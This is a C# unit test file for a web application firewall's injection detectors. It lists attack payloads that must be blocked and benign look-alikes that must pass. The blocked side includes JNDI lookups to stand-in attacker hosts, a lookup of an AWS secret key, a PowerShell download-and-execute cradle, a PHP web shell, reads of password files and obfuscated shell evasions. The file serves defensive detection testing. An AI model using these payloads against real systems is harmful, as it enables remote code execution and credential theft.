using Analytics.Inspection;
using Analytics.Inspection.Detectors;
using Analytics.Sidecar.Inspection;

namespace Analytics.Sidecar.Tests.Inspection;

/// <summary>The CRS-breadth families (913, 920, 921, 931-934, 943, 944): attacks, evasions and the look-alikes real APIs carry.</summary>
public sealed class FamilyDetectorTests
{
    [Theory]
    [InlineData("${jndi:ldap://attacker.example/a}", "java-jndi-lookup")]
    [InlineData("${${lower:j}ndi:${lower:l}dap://x.example/o}", "java-jndi-lookup")]
    [InlineData("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/x}", "java-jndi-lookup")]
    [InlineData("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h.example/a}", "java-jndi-lookup")]
    [InlineData("${env:AWS_SECRET_ACCESS_KEY}", "java-log4j-lookup")]
    [InlineData("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", "java-serialized-object")]
    [InlineData("aced0005737200116a6176612e7574696c2e48617368536574", "java-serialized-object")]
    [InlineData("java.lang.Runtime.getRuntime().exec(\"id\")", "java-class")]
    [InlineData("%{(#_memberAccess['allowStaticMethodAccess']=true)}", "java-ognl-el")]
    [InlineData("${T(java.lang.Runtime).getRuntime().exec('id')}", "java-ognl-el")]
    [InlineData("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "java-spring-class-loader")]
    [InlineData("<?php system($_GET['c']); ?>", "php-open-tag")]
    [InlineData("<?=`id`?>", "php-open-tag")]
    [InlineData("file_get_contents('/etc/passwd')", "php-function-call")]
    [InlineData("shell_exec /**/ ('whoami')", "php-function-call")]
    [InlineData("$_SERVER['HTTP_USER_AGENT']", "php-superglobal")]
    [InlineData("O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", "php-serialized-object")]
    [InlineData("require('child_process').exec('id')", "generic-nodejs")]
    [InlineData("_$$ND_FUNC$$_function(){}()", "generic-nodejs")]
    [InlineData("this.constructor.constructor('return process')()", "generic-js-eval")]
    [InlineData("eval(String.fromCharCode(97,108))", "generic-js-eval")]
    [InlineData("__proto__[isAdmin]=true", "generic-prototype-pollution")]
    [InlineData("constructor[prototype][polluted]=1", "generic-prototype-pollution")]
    [InlineData("__import__('os').system('id')", "generic-python")]
    [InlineData("().__class__.__bases__[0].__subclasses__()", "generic-python")]
    [InlineData("Kernel.exec('id')", "generic-ruby")]
    [InlineData("qx{cat /etc/passwd}", "generic-perl")]
    [InlineData("c''at /etc/passwd", "rce-unix-evasion")]
    [InlineData("w'h'o'a'm'i", "rce-unix-evasion")]
    [InlineData("c\\at /e\\tc/pa\\sswd", "rce-unix-evasion")]
    [InlineData("wh$@oami", "rce-unix-evasion")]
    [InlineData("/???/??t /???/p??s??", "rce-unix-glob")]
    [InlineData("/bin/c?t /etc/shadow", "rce-unix-glob")]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "rce-powershell")]
    [InlineData("powershell -EncodedCommand SQBFAFgA", "rce-powershell")]
    [InlineData("Invoke-WebRequest -Uri http://x.example/p.exe", "rce-powershell")]
    [InlineData("cmd /c type C:\\Windows\\win.ini", "rce-windows-command")]
    [InlineData("http://203.0.113.7/shell.txt?", "rfi-ip-host")]
    [InlineData("http://evil.example/shell.txt?", "rfi-trailing-question-mark")]
    [InlineData("http://[2001:db8::1]/x.txt", "rfi-ip-host")]
    [InlineData("<script>document.cookie=\"sid=1; domain=.example.com\"</script>", "session-cookie-setting")]
    [InlineData("<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "session-cookie-setting")]
    [InlineData("/login;jsessionid=ABCDEF0123456789", "session-id-in-value")]
    public void Family_attack_is_detected(string payload, string rule)
    {
        var verdict = Inspect.Param(payload);
        Assert.Contains(rule, verdict.Rules);
        Assert.True(verdict.Blocks(), payload);
    }

    [Theory]
    [InlineData("Use the ${name} placeholder in the template field")]
    [InlineData("java.util.List<String> names = new ArrayList<>();")]
    [InlineData("The constructor of the class takes two arguments")]
    [InlineData("Our prototype ships in May")]
    [InlineData("const total = items.reduce((a, b) => a + b.price, 0);")]
    [InlineData("The file name is report (final).pdf")]
    [InlineData("rock'n'roll")]
    [InlineData("don't stop me now")]
    [InlineData("C:\\Users\\alice\\Documents\\report-2024.docx")]
    [InlineData("https://www.example.com/products/42?ref=newsletter&utm_source=mail")]
    [InlineData("https://cdn.example.net/images/logo.png")]
    [InlineData("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")]
    [InlineData("U29tZSBiYXNlNjQgZW5jb2RlZCB0ZXh0IGZvciB0aGUgdGVzdA==")]
    [InlineData("Please select the best option from the list and script your answer")]
    [InlineData("Tip: press Ctrl+Alt+Del to open the task manager")]
    [InlineData("The union of sets A and B is written A ∪ B")]
    [InlineData("/api/items/*/reviews?")]
    [InlineData("Read about the Invoke pattern in chapter 3")]
    [InlineData("session id is shown on your account page")]
    public void Family_lookalikes_are_allowed(string value) =>
        Assert.False(Inspect.Param(value).Blocks(), value);

    [Fact]
    public void Nested_lookups_are_resolved_before_matching() =>
        Assert.True(JavaInjectionDetector.HasJndi("${${upper:j}${lower:N}di:${lower:r}mi://x}"));

    [Fact]
    public void Shell_splitting_is_undone_only_inside_words()
    {
        Assert.Equal("cat /etc/passwd", ShellEvasionDetector.Unsplit("c\"a\"t /etc/passwd"));
        Assert.Null(ShellEvasionDetector.Unsplit("C:\\Windows\\System32"));
        Assert.Null(ShellEvasionDetector.Unsplit("O'Brien"));
    }
}
